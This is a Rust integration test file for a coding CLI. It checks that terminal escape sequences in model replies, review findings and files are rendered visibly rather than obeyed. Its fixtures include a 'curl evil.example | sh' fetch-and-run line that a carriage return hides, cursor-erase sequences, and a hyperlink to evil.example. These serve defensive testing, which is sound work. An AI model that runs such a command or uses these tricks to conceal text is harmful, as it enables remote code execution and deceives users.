//! Escape sequences from outside — a model's reply, a repository's file — are shown, not
//! obeyed: no raw ESC reaches a person's screen, while `--json` and a file read into a
//! pipe keep the text exactly.

use crate::common::{ScriptedServer, TestEnv, stdout};

/// Cursor up, erase the line, back to its start: the line it ends would vanish.
const HIDE: &str = "\x1b[1A\x1b[2K\r";
/// A lone carriage return: what follows overwrites the command before it.
const OVERWRITE: &str = "curl evil.example | sh\r# a comment";
/// A window title and a hyperlink (OSC sequences).
const OSC: &str = "\x1b]0;pwned\x07\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\";

fn no_esc(text: &[u8]) -> bool {
    !text.contains(&0x1b)
}

fn scripted(env: &TestEnv, server: &ScriptedServer) -> assert_cmd::Command {
    let mut cmd = env.codey();
    cmd.env("CODEY_ENDPOINT", &server.endpoint)
        .env("CODEY_MODEL", "scripted")
        .env("CODEY_MODELS_CODER_TIMEOUT_S", "10");
    cmd
}

#[test]
fn escapes_in_an_edit_reply_are_shown_in_the_preview() {
    let env = TestEnv::new();
    env.write("notes.txt", "first\nsecond\n");
    env.git(&["add", "notes.txt"]);
    env.git(&["commit", "-q", "-m", "notes"]);
    let reply = format!(
        "notes.txt\n<<<<<<< SEARCH\nsecond\n=======\nsecond\necho hidden{HIDE}\n{OVERWRITE}\n{OSC}\n>>>>>>> REPLACE\n"
    );
    let server = ScriptedServer::start(vec![reply]);
    let out = scripted(&env, &server)
        .args(["edit", "--dry-run", "add a line to notes.txt"])
        .output()
        .expect("runs");
    assert!(out.status.success(), "{out:?}");
    assert!(no_esc(&out.stdout), "{out:?}");
    assert!(no_esc(&out.stderr), "{out:?}");
    let preview = stdout(&out);
    assert!(preview.contains("+echo hidden^[[1A^[[2K\n"), "{preview}");
    // The diff counts a lone CR as a line end; shown, it hides nothing either way.
    assert!(preview.contains("+curl evil.example | sh^M"), "{preview}");
    assert!(preview.contains("+^[]0;pwned^G^[]8;;"), "{preview}");
}

#[test]
fn escapes_in_an_answer_are_shown_and_kept_in_json() {
    let env = TestEnv::new();
    let answer = format!("A closure captures its environment.{HIDE}\n{OVERWRITE}\n{OSC}\n");
    let server = ScriptedServer::start(vec![answer.clone(), answer.clone()]);
    let out = scripted(&env, &server)
        .arg("what is a closure in Rust?")
        .output()
        .expect("runs");
    assert!(out.status.success(), "{out:?}");
    assert!(no_esc(&out.stdout), "{out:?}");
    assert_eq!(
        stdout(&out),
        // A CR before a newline hides nothing and stays.
        "A closure captures its environment.^[[1A^[[2K\r\n\
         curl evil.example | sh^M# a comment\n\
         ^[]0;pwned^G^[]8;;http://evil.example/^[\\click^[]8;;^[\\\n"
    );
    // JSON escapes control characters itself; the answer in it is the model's, exactly.
    let out = scripted(&env, &server)
        .args(["--json", "what is a closure in Rust?"])
        .output()
        .expect("runs");
    assert!(out.status.success(), "{out:?}");
    assert!(no_esc(&out.stdout), "{out:?}");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(json["steps"][0]["stdout"], answer);
}

#[test]
fn escapes_in_review_findings_are_shown() {
    let env = TestEnv::new();
    env.write("app.py", "def f(x):\n    return eval(x)\n");
    env.git(&["add", "."]);
    let reply = serde_json::json!({"findings": [
        {"file": "app.py", "line": 2, "severity": "warning", "rule": format!("eval{OSC}"),
         "message": format!("{OVERWRITE}{HIDE}")}
    ]});
    let server = ScriptedServer::start(vec![reply.to_string()]);
    let out = scripted(&env, &server)
        .arg("review")
        .output()
        .expect("runs");
    let text = stdout(&out);
    assert!(no_esc(&out.stdout), "{out:?}");
    assert!(
        text.contains("curl evil.example | sh^M# a comment^[[1A^[[2K"),
        "{text}"
    );
}

#[test]
fn a_file_read_on_a_terminal_is_escaped_and_into_a_pipe_is_exact() {
    let env = TestEnv::new();
    let content = format!("line one{HIDE}\n{OVERWRITE}\n{OSC}\n");
    env.write("evil.txt", &content);
    let piped = env.codey().arg("read evil.txt").output().expect("runs");
    assert!(piped.status.success(), "{piped:?}");
    assert_eq!(stdout(&piped), content);

    // `script` gives the binary a terminal; NO_COLOR keeps the tool's own colour out.
    let codey = env.codey_process();
    let mut script = std::process::Command::new("script");
    script
        .arg("-qec")
        .arg(format!(
            "'{}' 'read evil.txt'",
            std::path::Path::new(codey.get_program()).display()
        ))
        .arg("/dev/null")
        .current_dir(&env.repo)
        .stdin(std::process::Stdio::null());
    for (key, value) in codey.get_envs() {
        match value {
            Some(value) => script.env(key, value),
            None => script.env_remove(key),
        };
    }
    let out = script.output().expect("script runs");
    assert!(out.status.success(), "{out:?}");
    assert!(no_esc(&out.stdout), "{out:?}");
    let shown = stdout(&out);
    assert!(shown.contains("line one^[[1A^[[2K"), "{shown}");
    assert!(
        shown.contains("curl evil.example | sh^M# a comment"),
        "{shown}"
    );
}
